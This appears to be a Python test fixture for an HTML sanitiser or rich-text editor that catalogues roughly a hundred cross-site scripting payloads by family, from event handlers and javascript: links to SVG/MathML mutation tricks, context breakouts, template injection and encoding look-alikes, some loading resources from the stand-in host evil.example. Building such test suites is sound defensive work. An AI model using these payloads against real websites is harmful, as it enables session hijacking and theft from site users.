"""Ways to smuggle a script into a page, gathered by family; `{js}` is what runs if one gets through.

Every payload calls `top.__xss(number)`, so that a browser tells which one came through; those that would only load
something name the host evil.example, which no page may ask.
"""

from __future__ import annotations

from dataclasses import dataclass

EVIL = "//evil.example"

FAMILIES: dict[str, tuple[str, ...]] = {
    "elements": (
        "<script>{js}</script>",
        "<ScRiPt >{js}</sCrIpT >",
        "<script src=//evil.example/a.js></script>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
        "<<script>{js}//<</script>",
        "<script\x0b>{js}</script>",
        "<script/x>{js}</script>",
        "<iframe src=javascript:{js}></iframe>",
        "<iframe srcdoc='&lt;script&gt;{js}&lt;/script&gt;'></iframe>",
        "<object data='data:text/html,<script>{js}</script>'></object>",
        "<embed src=javascript:{js}>",
        "<applet code=javascript:{js}></applet>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<frameset onload={js}><frame src=javascript:{js}></frameset>",
        "<portal src=//evil.example/></portal>",
    ),
    "handlers": (
        "<img src=x onerror={js}>",
        "<img src=x:x onerror='{js}'>",
        "<img/src='x'/onerror={js}>",
        "<IMG SRC=x ONERROR\x0c=\x0c{js}>",
        "<img src=x onerror\x0b={js}>",
        "<body onload={js} onpageshow={js}>",
        "<div onmouseover={js} onclick={js} style='position:fixed;inset:0'>x</div>",
        "<input autofocus onfocus={js}>",
        "<details open ontoggle={js}><summary>x</summary></details>",
        "<video><source onerror={js}></video>",
        "<audio src=x onerror={js}>",
        "<marquee onstart={js}>x</marquee>",
        "<a href=# onclick={js}>x</a>",
        "<p tabindex=1 onfocus={js} autofocus>x</p>",
        "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={js}>x</b>",
        "<b id=x tabindex=1 onfocusin={js} onpointerover={js}>x</b>",
    ),
    "schemes": (
        "<a href=javascript:{js}>x</a>",
        "<a href=JaVaScRiPt:{js}>x</a>",
        "<a href='java\tscript:{js}'>x</a>",
        "<a href='java&#10;script&colon;{js}'>x</a>",
        "<a href='&#1;javascript:{js}'>x</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{js}'>x</a>",
        "<a href=' \r\n javascript:{js}'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html,<script>{js}</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "<a href='blob:{js}'>x</a>",
        "<a href='javascript://%0a{js}'>x</a>",
        "<img src=javascript:{js}>",
        "<img srcset='//evil.example/a.png 1x' src=x>",
        "<form action=javascript:{js}><button>x</button></form>",
        "<button form=f formaction=javascript:{js}>x</button><form id=f></form>",
        "<table background=//evil.example/a.png><tr><td background=javascript:{js}>x</table>",
        "<a ping=//evil.example/ href=x>x</a>",
    ),
    "foreign content and mutation": (
        "<svg onload={js}></svg>",
        "<svg><script>{js}</script></svg>",
        "<svg><a xlink:href=javascript:{js}><text y=20>x</text></a></svg>",
        "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={js}/>#x'></svg>",
        "<math><a xlink:href=javascript:{js}>x</a></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror={js}>'>",
        "<noscript><p title='</noscript><img src=x onerror={js}>'>",
        "<template><script>{js}</script></template>",
        "<select><style></select><img src=x onerror={js}></style>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={js} src=1>'>",
        "<xmp><p title='</xmp><img src=x onerror={js}>'>",
        "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
        "<style><img src='</style><img src=x onerror={js}//'>",
    ),
    "breakouts": (
        "</title><script>{js}</script>",
        "</textarea><script>{js}</script>",
        "</script><script>{js}</script>",
        "</style><script>{js}</script>",
        "--><script>{js}</script><!--",
        "--!><img src=x onerror={js}>",
        "]]><script>{js}</script>",
        "\"><script>{js}</script>",
        "'><img src=x onerror={js}>",
        "\" onmouseover={js} autofocus onfocus={js} x=\"",
        "' onmouseover='{js}' x='",
        "` onmouseover={js}",
        "\\\"}};{js};//",
        "';{js};//",
        "</script><!--<script>{js}//",
        "\u2028{js}\u2029",
        "</noscript><img src=x onerror={js}>",
    ),
    "templates and styles": (
        "{{{{ request.user }}}}{{% load static %}}{{{{ 7|add:7 }}}}",
        "{{{{constructor.constructor('{js}')()}}}}",
        "${{{js}}}",
        "#{{{js}}}",
        "<%= {js} %>",
        "<div style='background:url(//evil.example/b.png)'>x</div>",
        "<div style='width:expression({js})'>x</div>",
        "<style>@import '//evil.example/c.css';body{{background:url(//evil.example/d.png)}}</style>",
        "<b style='behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/x.xml#a)'>x</b>",
    ),
    "look-alikes and comments": (
        "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
        "\u02bb><\u017fcript>{js}</\u017fcript>",
        "<scrıpt>{js}</scrıpt>",
        "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
        "<!--><img src=x onerror={js}>-->",
        "<![CDATA[<script>{js}</script>]]>",
        "<?xml-stylesheet href=javascript:{js}?><script>{js}</script>",
        "<\x00script>{js}</script>",
        "&lt;script&gt;{js}&lt;/script&gt;",
        "+ADw-script+AD4-{js}+ADw-/script+AD4-",
        "%3Cscript%3E{js}%3C/script%3E",
        "\u202e>tpircs<{js}",
    ),
    "editor": (
        '<embed embedtype="media" url="javascript:{js}"/>',
        '<embed embedtype="image" id="1" alt="&quot; onerror={js} x=&quot;" format="left"/>',
        '<a linktype="page" id="1" onclick="{js}" href="javascript:{js}">x</a>',
        '<a linktype="document" id="&quot;&gt;&lt;script&gt;{js}&lt;/script&gt;">x</a>',
        '<p data-block-key="&quot;&gt;&lt;img src=x onerror={js}&gt;" data-contentstate="{{}}">x</p>',
        '{{"entityMap":{{"0":{{"type":"LINK","data":{{"url":"javascript:{js}"}}}}}},"blocks":[]}}',
        '<div data-controller="w-init" data-action="click->w-init#x" data-draftail-input>{js}</div>',
    ),
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """One payload; `markup` is what stands in a page or a field."""

    number: int
    family: str
    markup: str

    @property
    def text(self) -> str:
        """The markup as a page writes it whose very words it is."""
        return (
            self.markup.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
        )


def collect() -> tuple[Payload, ...]:
    """Return all payloads, numbered."""
    every = [(family, template) for family, templates in FAMILIES.items() for template in templates]
    return tuple(
        Payload(number, family, template.format(js=f"top.__xss({number})"))
        for number, (family, template) in enumerate(every, 1)
    )


PAYLOADS = collect()
